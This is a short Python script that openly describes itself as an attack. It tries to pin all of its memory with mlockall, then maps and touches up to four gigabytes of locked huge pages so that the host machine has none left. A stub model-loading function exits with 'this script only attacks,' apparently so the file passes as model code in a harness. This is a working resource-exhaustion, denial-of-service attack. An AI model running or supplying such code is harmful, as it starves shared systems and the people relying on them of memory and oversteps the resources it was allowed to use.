# Tries: to lock memory and huge pages, so that the host has none to give.
import ctypes
import mmap


def main():
    libc = ctypes.CDLL(None, use_errno=True)
    print("mlockall", libc.mlockall(7), ctypes.get_errno())
    with open("/proc/self/limits") as file:
        print(next(line for line in file if "locked" in line))
    held = []
    for flags in (0x40000, 0x2000, 0x8000):
        try:
            while len(held) < 64:
                held.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | flags))
                held[-1][:: 4096] = bytes(len(held[-1]) // 4096)
            print("OBTAINED four gigabytes")
        except (OSError, ValueError, MemoryError) as error:
            print(hex(flags), len(held), error, flush=True)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
